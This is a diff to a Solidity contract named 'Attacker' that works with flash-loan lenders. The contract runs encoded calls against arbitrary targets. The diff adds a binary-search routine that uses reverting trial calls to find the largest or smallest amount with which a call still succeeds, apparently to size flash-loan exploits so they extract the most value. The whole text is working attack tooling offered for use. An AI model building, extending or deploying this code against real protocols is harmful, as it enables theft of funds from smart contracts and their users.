@@ -25,6 +25,9 @@ interface IFlashLender {
 ///     1    the first word returned by the action with index `number` in the same list
 ///     2    `number` bps of the first word that the address answers to the question
 ///     3    `number` bps of what this contract has of the token at the address
+///
+/// Where 128 is added to the source, its word is a bound: when the call fails with it, the word is lowered to the most with which it
+/// succeeds. Where 64 is added, the word is lowered to the least, from one on, with which the call succeeds.
 contract Attacker is Receivers {
     error NotOwner();
     error NoOpenLoan();
@@ -37,6 +40,13 @@ contract Attacker is Receivers {
     uint256 private constant BPS = 10_000;
     /// What `transfer` of Solidity leaves is too little to answer with.
     uint256 private constant LEAST_GAS = 10_000;
+    /// Added to a source whose word is a bound of the most or of the least that succeeds.
+    uint256 private constant MOST = 128;
+    uint256 private constant LEAST = 64;
+    /// To how much of itself an amount is the most or the least that succeeds: 2^-10.
+    uint256 private constant PRECISION = 10;
+    uint256 private constant LEAST_SHIFT = 4;
+    uint256 private constant MOST_SHIFT = 64;
 
     address private immutable owner;
     /// The lender whose callback is awaited, zero when no loan is open.
@@ -111,18 +121,91 @@ contract Attacker is Receivers {
         uint256 length = _number(at + 52, 4);
         uint256 data = at + 61;
         end = data + length;
+        (uint256 most, uint256 least) = (0, 0);
         for (uint256 fills = _number(at + 56, 1); fills > 0; --fills) {
+            uint256 source = _number(end + 4, 1);
+            if (source & MOST > 0) most = data + _number(end, 4);
+            if (source & LEAST > 0) least = data + _number(end, 4);
             end = _fill(end, data, results, index);
         }
         uint256 bodyLength = _number(at + 57, 4);
         if (bodyLength > 0) pending = _copy(end, bodyLength);
+        end += bodyLength;
+        if (least > 0) _fit(at, data, length, least, false);
+        (success, result) = _send(at, data, length);
+        if (!success && most > 0 && _fit(at, data, length, most, true)) (success, result) = _send(at, data, length);
+        if (bodyLength > 0 && pending.length > 0) delete pending;
+    }
+
+    /// Makes the call whose target and value are at this place of the memory.
+    function _send(uint256 at, uint256 data, uint256 length) private returns (bool success, uint256 result) {
         uint256 target = _number(at, 20);
         assembly ("memory-safe") {
             success := call(gas(), target, mload(add(at, 20)), data, length, 0, 32)
             if and(success, gt(returndatasize(), 31)) { result := mload(0) }
         }
-        if (bodyLength > 0 && pending.length > 0) delete pending;
-        end += bodyLength;
+    }
+
+    /// Lowers the word at `hole` to the most, or to the least, with which a call succeeds; whether there is such a word.
+    function _fit(uint256 at, uint256 data, uint256 length, uint256 hole, bool most) private returns (bool fits) {
+        uint256 bound = _number(hole, 32);
+        (uint256 good, uint256 bad) = (bound, 1);
+        if (most) {
+            bad = bound;
+            for (uint256 shift = LEAST_SHIFT; !fits && shift <= MOST_SHIFT; shift *= 2) {
+                good = bound >> shift;
+                if (good == 0) return false;
+                fits = _works(at, data, length, hole, good);
+                if (!fits) bad = good;
+            }
+            if (!fits) return false;
+        } else {
+            if (bound < 2 || _works(at, data, length, hole, 1)) return true;
+            if (!_works(at, data, length, hole, bound)) return false;
+        }
+        while (true) {
+            (uint256 low, uint256 high) = good < bad ? (good, bad) : (bad, good);
+            if (high - low <= 1 + (low >> PRECISION)) break;
+            uint256 middle = high >> 2 > low ? low << (_bits(high) - _bits(low)) / 2 : low + (high - low) / 2;
+            if (_works(at, data, length, hole, middle)) good = middle;
+            else bad = middle;
+        }
+        _write(hole, good);
+        return true;
+    }
+
+    /// How many bits it takes to write a number.
+    function _bits(uint256 number) private pure returns (uint256 bits) {
+        for (uint256 step = 128; step > 0; step /= 2) {
+            if (number >> step > 0) (number, bits) = (number >> step, bits + step);
+        }
+        bits += number;
+    }
+
+    /// Whether a call succeeds with this word at `hole`; it is as if it had not been made.
+    function _works(uint256 at, uint256 data, uint256 length, uint256 hole, uint256 word) private returns (bool works) {
+        _write(hole, word);
+        bytes memory trial = abi.encodeCall(this.attempt, (address(uint160(_number(at, 20))), _number(at + 20, 32), _copy(data, length)));
+        _call(address(this), trial);
+        assembly ("memory-safe") {
+            works := eq(returndatasize(), 32)
+        }
+    }
+
+    /// Makes a call and takes it back: reverts with one word where it succeeded, with nothing where it failed.
+    function attempt(address target, uint256 value, bytes calldata data) external {
+        bytes memory copied = data;
+        assembly ("memory-safe") {
+            let success := eq(caller(), address())
+            if success { success := call(gas(), target, value, add(copied, 32), mload(copied), 0, 0) }
+            revert(0, shl(5, success))
+        }
+    }
+
+    function _write(uint256 hole, uint256 word) private pure {
+        assembly ("memory-safe") {
+            mstore(hole, word)
+        }
     }
 
     function _borrow(uint256 at) private returns (uint256 end, bool success) {
@@ -139,7 +222,7 @@ contract Attacker is Receivers {
 
     /// Writes the word that the fill at this place asks for; the end of the fill.
     function _fill(uint256 at, uint256 data, uint256[] memory results, uint256 index) private view returns (uint256 end) {
-        uint256 source = _number(at + 4, 1);
+        uint256 source = _number(at + 4, 1) % LEAST;
         address place = address(uint160(_number(at + 5, 20)));
         uint256 number = _number(at + 25, 2);
         uint256 length = _number(at + 28, 2);
@@ -159,9 +242,12 @@ contract Attacker is Receivers {
             }
             word = _share(_ask(place, start, question.length), number);
         }
-        uint256 hole = data + _number(at, 4);
+        uint256 addition;
         assembly ("memory-safe") {
-            mstore(hole, add(word, signextend(0, byte(0, mload(add(at, 27))))))
+            addition := signextend(0, byte(0, mload(add(at, 27))))
+        }
+        unchecked {
+            _write(data + _number(at, 4), word + addition);
         }
     }
 
